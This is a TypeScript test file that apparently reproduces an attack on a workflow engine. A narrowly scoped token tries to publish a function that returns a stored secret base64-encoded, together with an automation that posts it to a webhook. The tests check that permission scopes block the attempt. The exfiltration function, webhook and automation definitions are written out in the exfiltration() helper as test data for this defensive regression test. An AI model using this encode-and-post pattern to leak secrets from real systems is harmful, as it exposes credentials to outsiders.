/**
 * The reproduction, end to end on a real dev server and worker: a definitions:write
 * token publishes a new version of a function that holds a secret (returning it base64-encoded,
 * which redaction cannot recognise) with an automation that posts the output to its webhook.
 * The apply is refused and nothing leaves; a token with the scopes those effects need (the
 * publish, the call) applies the same file set and the channel works, so the refusal is what
 * stops it.
 */
import type { FastifyInstance } from 'fastify';
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { buildApiServer } from '../api/server.js';
import type { Scope } from '../store/types.js';
import { startTestEngine, type TestEngine } from './helpers/engine.js';
import { startReceiver, type Receiver } from './helpers/receiver.js';

const SECRET = 'sk-live-exfil-7731';

let idflow: TestEngine;
let api: FastifyInstance;
let receiver: Receiver;

const functionDocument = { path: 'defs/keyholder.yaml', content: 'kind: Function\nname: keyholder\nfile: keyholder.ts\ntimeout: 5s\n' };
const source = (body: string) => ({
  path: 'defs/keyholder.ts',
  content: `export default async function (_input: unknown, ctx: { getConfig(key: string): string }) {\n  ${body}\n}\n`,
});

before(async () => {
  idflow = await startTestEngine({ env: { IDFLOW_MASTER_KEY: Buffer.alloc(32, 9).toString('base64') } });
  receiver = await startReceiver();
  api = await buildApiServer({ engine: idflow.engine });
  const applied = await idflow.engine.apply([functionDocument, source('return { ok: ctx.getConfig("API_KEY").length > 0 };')], {
    dryRun: false,
    actor: 'admin',
  });
  assert.deepEqual(applied.errors, []);
  await idflow.engine.functions.setSecret('keyholder', 'API_KEY', SECRET, 'admin');
});

after(async () => {
  await api?.close();
  await receiver?.close();
  await idflow?.stop();
});

/** The attack: the function returns its secret encoded, an automation posts the output to the attacker's webhook. */
function exfiltration(): { path: string; content: string }[] {
  return [
    functionDocument,
    source('return { b64: btoa(ctx.getConfig("API_KEY")) };'),
    { path: 'defs/collector.yaml', content: `kind: Webhook\nname: collector\nurl: ${receiver.url}/collect\n` },
    {
      path: 'defs/leak.yaml',
      content:
        'kind: Automation\nname: leak\ntrigger: { type: user.created }\nsteps:\n  - name: call\n    type: call_function\n    with: { function: keyholder }\n  - name: post\n    type: run_webhook\n    with: { webhook: collector, payload: { b64: "{{ ctx.call.output.b64 }}" } }\n',
    },
  ];
}

async function applyAs(name: string, scopes: Scope[]) {
  const token = await idflow.store.tokens.create(name, scopes);
  return api.inject({
    method: 'POST',
    url: '/v1/apply',
    headers: { authorization: `Bearer ${token}` },
    payload: { files: exfiltration() },
  });
}

const leaked = () => receiver.requests.some((request) => request.body.includes(Buffer.from(SECRET).toString('base64')));

test("a definitions:write token cannot publish a function's code to send its secret out through a webhook", async () => {
  const refused = await applyAs('definitions-only', ['definitions:write']);
  assert.equal(refused.statusCode, 403, refused.body);
  assert.match(
    refused.json().error.message,
    /defs\/keyholder\.yaml:1: Function\/keyholder needs "functions:write"; defs\/leak\.yaml:1: Automation\/leak needs "functions:run"/,
  );
  assert.equal((await idflow.store.definitions.current('Function', 'keyholder'))?.version, 1, 'no new version of the function');
  assert.equal(await idflow.store.definitions.current('Automation', 'leak'), undefined);

  const event = await idflow.engine.ingest(
    { id: 'evt-after-refusal', type: 'user.created', data: { newUser: { id: 'u-1', email: 'ada@example.com' } } },
    'hr',
  );
  assert.deepEqual(event.runs, [], 'nothing runs on the event');
  assert.equal(leaked(), false);
});

test('a token with the scopes of every effect applies the same file set: the channel is real', async () => {
  const applied = await applyAs('function-owner', ['definitions:write', 'functions:write', 'functions:run']);
  assert.equal(applied.statusCode, 200, applied.body);
  const event = await idflow.engine.ingest(
    { id: 'evt-scoped', type: 'user.created', data: { newUser: { id: 'u-2', email: 'grace@example.com' } } },
    'hr',
  );
  const run = await idflow.finished(event.runs[0].runId);
  assert.equal(run.status, 'completed', run.error);
  assert.equal(leaked(), true, 'the base64-encoded secret reached the webhook');
});

test("declaring a connector action needs functions:run, and the webhook it names is then guarded as function output's destination", async () => {
  const relay = (url: string) => ({ path: 'defs/relay.yaml', content: `kind: Webhook\nname: relay\nurl: ${url}\n` });
  const vault = {
    path: 'defs/vault.yaml',
    content: 'kind: Directory\napps:\n  - slug: vault\n    provisioning:\n      actions:\n        notify: { webhook: relay }\n',
  };
  const applyFiles = async (name: string, scopes: Scope[], files: { path: string; content: string }[]) => {
    const token = await idflow.store.tokens.create(name, scopes);
    return api.inject({ method: 'POST', url: '/v1/apply', headers: { authorization: `Bearer ${token}` }, payload: { files } });
  };
  // Before any app names it, the webhook is an ordinary one: definitions:write changes it.
  const plain = await applyFiles('hooks', ['definitions:write'], [relay(`${receiver.url}/relay`)]);
  assert.equal(plain.statusCode, 200, plain.body);

  const refused = await applyFiles('directory-writer', ['definitions:write', 'directory:write'], [relay(`${receiver.url}/relay`), vault]);
  assert.equal(refused.statusCode, 403, refused.body);
  assert.match(refused.json<{ error: { message: string } }>().error.message, /Directory needs "functions:run"/);
  const declared = await applyFiles('directory-runner', ['definitions:write', 'directory:write', 'functions:run'], [vault]);
  assert.equal(declared.statusCode, 200, declared.body);

  // Now a connector action posts a run's data there: pointing it elsewhere needs functions:run too.
  const moved = await applyFiles('hooks-again', ['definitions:write'], [relay(`${receiver.url}/elsewhere`)]);
  assert.equal(moved.statusCode, 403, moved.body);
  assert.match(moved.json<{ error: { message: string } }>().error.message, /Webhook\/relay needs "functions:run"/);
});
